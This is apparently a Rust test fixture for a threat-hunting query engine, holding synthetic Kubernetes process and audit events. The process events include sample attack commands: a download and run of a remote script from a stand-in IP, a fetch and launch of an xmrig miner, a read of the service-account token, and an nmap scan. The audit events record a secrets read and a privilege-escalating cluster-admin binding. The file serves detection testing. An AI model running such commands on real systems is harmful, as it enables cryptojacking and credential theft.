//! A small, realistic data set: process events from a web pod that gets attacked (curl,
//! miner download, recon), ordinary system activity, and Kubernetes audit events in their
//! real `audit.k8s.io/v1` shape.

use kdr_kql::{ColumnType, Schema};
use serde_json::{json, Value as Json};

/// 2024-05-01T10:00:00Z
pub const BASE_NS: i64 = 1_714_557_600_000_000_000;
/// `now()` in the tests: two hours after BASE.
pub const NOW_NS: i64 = BASE_NS + 2 * 3_600 * 1_000_000_000;

pub fn seconds(s: i64) -> i64 {
    s * 1_000_000_000
}

/// One value per column, in the column order of the schema. `Json::Null` means NULL; for
/// datetime columns the value is nanoseconds.
pub type Row = Vec<Json>;

pub struct Dataset {
    pub process: Vec<Row>,
    pub audit: Vec<Row>,
}

#[allow(clippy::too_many_arguments)]
fn process_event(
    offset_s: i64,
    node: &str,
    namespace: &str,
    pod: &str,
    image: &str,
    container: &str,
    process: &str,
    folder: &str,
    parent: &str,
    pid: i64,
    ppid: i64,
    command_line: &str,
    account: &str,
    initiating: Option<i64>,
    additional: Json,
) -> Row {
    vec![
        json!(BASE_NS + seconds(offset_s)),
        json!("prod-eu"),
        json!(node),
        json!(image),
        json!(namespace),
        json!(pod),
        json!(format!(
            "deployments/{}",
            pod.rsplitn(3, '-').last().unwrap_or(pod)
        )),
        json!(container),
        json!(format!("containerd://{:x}", pid * 7919)),
        json!("ProcessCreated"),
        json!(process),
        json!(format!("{folder}/{process}")),
        json!(pid),
        json!(process),
        json!(parent),
        json!(ppid),
        json!(command_line),
        json!(BASE_NS + seconds(offset_s) - 1_000_000),
        json!("/var/www"),
        json!(account),
        json!(format!("{}", 1000 + pid % 7)),
        initiating.map_or(Json::Null, |p| json!(p)),
        additional,
    ]
}

fn audit_event(
    offset_s: i64,
    operation: &str,
    ip: &str,
    proxy: bool,
    user_agent: &str,
    raw: Json,
) -> Row {
    let resource = raw["objectRef"]["resource"]
        .as_str()
        .unwrap_or("")
        .to_string();
    let namespace = raw["objectRef"]["namespace"]
        .as_str()
        .unwrap_or("")
        .to_string();
    vec![
        json!(BASE_NS + seconds(offset_s)),
        json!("prod-eu"),
        raw["auditID"].clone(),
        json!("KubernetesAudit"),
        json!(format!(
            "{}{}",
            raw["verb"].as_str().unwrap_or(""),
            resource
        )),
        json!(operation),
        json!(format!(
            "/clusters/prod-eu/namespaces/{namespace}/{resource}"
        )),
        json!(ip),
        json!(proxy),
        json!(if ip.starts_with("10.") { "" } else { "NL" }),
        json!(if ip.starts_with("10.") {
            ""
        } else {
            "Amsterdam"
        }),
        json!(if ip.starts_with("10.") {
            ""
        } else {
            "Example Hosting"
        }),
        json!(user_agent),
        raw,
        json!({"Source": "audit-webhook"}),
    ]
}

#[allow(clippy::too_many_arguments)]
fn k8s_audit(
    id: &str,
    verb: &str,
    resource: &str,
    namespace: &str,
    name: &str,
    user: &str,
    groups: &[&str],
    ip: &str,
    code: i64,
    extra: Json,
) -> Json {
    let mut event = json!({
        "kind": "Event",
        "apiVersion": "audit.k8s.io/v1",
        "level": "RequestResponse",
        "auditID": id,
        "stage": "ResponseComplete",
        "requestURI": format!("/api/v1/namespaces/{namespace}/{resource}/{name}"),
        "verb": verb,
        "user": {"username": user, "groups": groups},
        "sourceIPs": [ip],
        "userAgent": "kubectl/v1.29.2 (linux/amd64) kubernetes/4b8e819",
        "objectRef": {"resource": resource, "namespace": namespace, "name": name, "apiVersion": "v1"},
        "responseStatus": {"metadata": {}, "code": code},
        "requestReceivedTimestamp": "2024-05-01T10:00:00.000000Z",
        "annotations": {"authorization.k8s.io/decision": if code == 403 { "forbid" } else { "allow" }}
    });
    if let (Some(target), Some(more)) = (event.as_object_mut(), extra.as_object()) {
        for (key, value) in more {
            target.insert(key.clone(), value.clone());
        }
    }
    event
}

pub fn dataset() -> Dataset {
    let web = "registry.example.com/shop/web:1.4.2";
    let nginx = "docker.io/library/nginx:1.25";
    let process = vec![
        process_event(
            60,
            "node-a",
            "shop",
            "web-7d9f8-abcde",
            web,
            "web",
            "bash",
            "/bin",
            "php-fpm",
            4101,
            4000,
            "bash -c id",
            "www-data",
            Some(4000),
            json!({"Args": ["-c", "id"], "Interactive": false}),
        ),
        process_event(
            120,
            "node-a",
            "shop",
            "web-7d9f8-abcde",
            web,
            "web",
            "curl",
            "/usr/bin",
            "bash",
            4102,
            4101,
            "curl -s http://203.0.113.9/x.sh -o /tmp/x.sh",
            "www-data",
            Some(4101),
            json!({"Args": ["-s", "http://203.0.113.9/x.sh", "-o", "/tmp/x.sh"]}),
        ),
        process_event(
            180,
            "node-a",
            "shop",
            "web-7d9f8-abcde",
            web,
            "web",
            "sh",
            "/bin",
            "bash",
            4103,
            4101,
            "sh /tmp/x.sh",
            "www-data",
            Some(4101),
            json!({"Args": ["/tmp/x.sh"]}),
        ),
        process_event(
            240,
            "node-a",
            "shop",
            "web-7d9f8-abcde",
            web,
            "web",
            "wget",
            "/usr/bin",
            "sh",
            4104,
            4103,
            "wget -q http://pool.example.net/xmrig -O /tmp/xmrig",
            "www-data",
            Some(4103),
            json!({"Args": ["-q", "http://pool.example.net/xmrig", "-O", "/tmp/xmrig"]}),
        ),
        process_event(
            300,
            "node-a",
            "shop",
            "web-7d9f8-abcde",
            web,
            "web",
            "xmrig",
            "/tmp",
            "sh",
            4105,
            4103,
            "/tmp/xmrig --donate-level 1 -o pool.example.net:3333",
            "www-data",
            Some(4103),
            json!({"Args": ["--donate-level", "1"], "Drift": true}),
        ),
        process_event(
            360,
            "node-a",
            "shop",
            "web-7d9f8-abcde",
            web,
            "web",
            "cat",
            "/bin",
            "bash",
            4106,
            4101,
            "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
            "www-data",
            Some(4101),
            json!({"Args": ["/var/run/secrets/kubernetes.io/serviceaccount/token"]}),
        ),
        process_event(
            420,
            "node-b",
            "shop",
            "web-7d9f8-fghij",
            web,
            "web",
            "php-fpm",
            "/usr/sbin",
            "containerd-shim",
            5001,
            1,
            "php-fpm: pool www",
            "www-data",
            None,
            json!({}),
        ),
        process_event(
            900,
            "node-b",
            "kube-system",
            "coredns-5d78c-xk2p4",
            "registry.k8s.io/coredns/coredns:v1.11.1",
            "coredns",
            "coredns",
            "/",
            "containerd-shim",
            6001,
            1,
            "/coredns -conf /etc/coredns/Corefile",
            "root",
            None,
            json!(null),
        ),
        process_event(
            1500,
            "node-b",
            "monitoring",
            "node-exporter-q8v7n",
            "quay.io/prometheus/node-exporter:v1.7.0",
            "node-exporter",
            "node_exporter",
            "/bin",
            "containerd-shim",
            7001,
            1,
            "/bin/node_exporter --path.rootfs=/host",
            "nobody",
            None,
            json!({"Args": []}),
        ),
        process_event(
            2400,
            "node-c",
            "ci",
            "runner-build-42",
            "docker.io/library/golang:1.22",
            "build",
            "apt-get",
            "/usr/bin",
            "sh",
            8001,
            8000,
            "apt-get install -y libcurl4 curl-dev",
            "root",
            Some(8000),
            json!({"Args": ["install", "-y", "libcurl4"]}),
        ),
        process_event(
            3000,
            "node-c",
            "ci",
            "runner-build-42",
            "docker.io/library/golang:1.22",
            "build",
            "go",
            "/usr/local/go/bin",
            "sh",
            8002,
            8000,
            "go build ./...",
            "root",
            Some(8000),
            json!({"Args": ["build"]}),
        ),
        process_event(
            4200,
            "node-a",
            "shop",
            "web-7d9f8-abcde",
            web,
            "web",
            "nmap",
            "/usr/bin",
            "bash",
            4107,
            4101,
            "nmap -sS 10.0.0.0/24 -p 10250",
            "www-data",
            Some(4101),
            json!({"Args": ["-sS", "10.0.0.0/24"], "Tool": "NMAP"}),
        ),
        process_event(
            5400,
            "node-b",
            "default",
            "nginx-66b6c-zz9k1",
            nginx,
            "nginx",
            "nginx",
            "/usr/sbin",
            "containerd-shim",
            9001,
            1,
            "nginx -g daemon off;",
            "root",
            None,
            json!({"Args": ["-g", "daemon off;"], "Note": "Ünïcode CURL"}),
        ),
        process_event(
            6600,
            "node-b",
            "default",
            "nginx-66b6c-zz9k1",
            nginx,
            "nginx",
            "CURL",
            "/usr/bin",
            "nginx",
            9002,
            9001,
            "CURL http://localhost/healthz",
            "root",
            Some(9001),
            json!({"Args": ["http://localhost/healthz"]}),
        ),
        // A clock-skewed sensor reported this one before the epoch: bin() must floor it.
        {
            let mut row = process_event(
                0,
                "node-z",
                "legacy",
                "old-pod-1",
                nginx,
                "old",
                "true",
                "/bin",
                "init",
                2,
                1,
                "true",
                "root",
                None,
                json!({}),
            );
            row[0] = json!(-seconds(30));
            row[17] = json!(-seconds(31));
            row
        },
    ];
    let audit = vec![
        audit_event(
            30,
            "create pods/exec",
            "198.51.100.7",
            true,
            "kubectl/v1.29.2",
            k8s_audit(
                "a1",
                "create",
                "pods",
                "shop",
                "web-7d9f8-abcde",
                "alice@example.com",
                &["system:authenticated"],
                "198.51.100.7",
                101,
                json!({"objectRef": {"resource": "pods", "subresource": "exec", "namespace": "shop", "name": "web-7d9f8-abcde", "apiVersion": "v1"}}),
            ),
        ),
        audit_event(
            400,
            "list secrets",
            "10.0.0.15",
            false,
            "curl/8.5.0",
            k8s_audit(
                "a2",
                "list",
                "secrets",
                "shop",
                "",
                "system:serviceaccount:shop:web",
                &[
                    "system:serviceaccounts",
                    "system:serviceaccounts:shop",
                    "system:authenticated",
                ],
                "10.0.0.15",
                403,
                json!({}),
            ),
        ),
        audit_event(
            420,
            "get secrets",
            "10.0.0.15",
            false,
            "curl/8.5.0",
            k8s_audit(
                "a3",
                "get",
                "secrets",
                "shop",
                "db-password",
                "system:serviceaccount:shop:web",
                &["system:serviceaccounts", "system:authenticated"],
                "10.0.0.15",
                200,
                json!({}),
            ),
        ),
        audit_event(
            1000,
            "create clusterrolebindings",
            "198.51.100.7",
            true,
            "kubectl/v1.29.2",
            k8s_audit(
                "a4",
                "create",
                "clusterrolebindings",
                "",
                "pwn-admin",
                "alice@example.com",
                &["system:authenticated"],
                "198.51.100.7",
                201,
                json!({"requestObject": {"kind": "ClusterRoleBinding", "roleRef": {"kind": "ClusterRole", "name": "cluster-admin"}, "subjects": [{"kind": "ServiceAccount", "name": "web", "namespace": "shop"}, {"kind": "User", "name": "mallory"}]}}),
            ),
        ),
        audit_event(
            1800,
            "create pods",
            "10.0.0.2",
            false,
            "kube-controller-manager/v1.29.2",
            k8s_audit(
                "a5",
                "create",
                "pods",
                "shop",
                "web-7d9f8-fghij",
                "system:serviceaccount:kube-system:replicaset-controller",
                &["system:serviceaccounts", "system:authenticated"],
                "10.0.0.2",
                201,
                json!({"requestObject": {"kind": "Pod", "spec": {"containers": [{"name": "web", "image": "registry.example.com/shop/web:1.4.2", "securityContext": {"privileged": true}}, {"name": "sidecar", "image": "docker.io/library/busybox:1.36"}]}}}),
            ),
        ),
        audit_event(
            2500,
            "get pods",
            "10.0.0.3",
            false,
            "kubelet/v1.29.2",
            k8s_audit(
                "a6",
                "get",
                "pods",
                "kube-system",
                "coredns-5d78c-xk2p4",
                "system:node:node-b",
                &["system:nodes", "system:authenticated"],
                "10.0.0.3",
                200,
                json!({}),
            ),
        ),
        audit_event(
            3600,
            "delete configmaps",
            "203.0.113.50",
            false,
            "python-requests/2.31",
            k8s_audit(
                "a7",
                "delete",
                "configmaps",
                "default",
                "app-config",
                "bob@example.com",
                &["devs", "system:authenticated"],
                "203.0.113.50",
                200,
                json!({}),
            ),
        ),
        audit_event(
            4300,
            "watch pods",
            "10.0.0.15",
            false,
            "curl/8.5.0",
            k8s_audit(
                "a8",
                "watch",
                "pods",
                "shop",
                "",
                "system:serviceaccount:shop:web",
                &["system:serviceaccounts", "system:authenticated"],
                "10.0.0.15",
                200,
                json!({}),
            ),
        ),
        audit_event(
            6000,
            "patch deployments",
            "198.51.100.7",
            true,
            "kubectl/v1.29.2",
            k8s_audit(
                "a9",
                "patch",
                "deployments",
                "default",
                "nginx",
                "alice@example.com",
                &["system:authenticated"],
                "198.51.100.7",
                200,
                json!({"requestObject": {"spec": {"template": {"spec": {"containers": [{"name": "nginx", "image": "docker.io/library/nginx:1.26"}]}}}}}),
            ),
        ),
    ];
    Dataset { process, audit }
}

pub fn schema() -> Schema {
    Schema::hunting()
}

/// Datetime columns hold nanoseconds; convert a row value to what SQLite stores.
pub fn sqlite_value(value: &Json, ty: ColumnType) -> rusqlite::types::Value {
    use rusqlite::types::Value;
    match (value, ty) {
        (Json::Null, _) => Value::Null,
        (_, ColumnType::Dynamic) => Value::Text(value.to_string()),
        (Json::Bool(b), _) => Value::Integer(i64::from(*b)),
        (Json::Number(n), ColumnType::Real) => Value::Real(n.as_f64().unwrap_or(0.0)),
        (Json::Number(n), _) => Value::Integer(n.as_i64().unwrap_or(0)),
        (Json::String(s), _) => Value::Text(s.clone()),
        (other, _) => Value::Text(other.to_string()),
    }
}

pub fn sqlite_db(data: &Dataset) -> rusqlite::Connection {
    let conn = rusqlite::Connection::open_in_memory().expect("open sqlite");
    let schema = schema();
    for ddl in schema.sqlite_ddl() {
        conn.execute(&ddl, []).expect("create table");
    }
    for (table, rows) in [
        (&schema.tables[0], &data.process),
        (&schema.tables[1], &data.audit),
    ] {
        let placeholders: Vec<String> =
            (1..=table.columns.len()).map(|i| format!("?{i}")).collect();
        let sql = format!(
            "INSERT INTO \"{}\" VALUES ({})",
            table.name,
            placeholders.join(", ")
        );
        for row in rows {
            let values: Vec<rusqlite::types::Value> = row
                .iter()
                .zip(&table.columns)
                .map(|(v, c)| sqlite_value(v, c.ty))
                .collect();
            conn.execute(&sql, rusqlite::params_from_iter(values))
                .expect("insert");
        }
    }
    conn
}
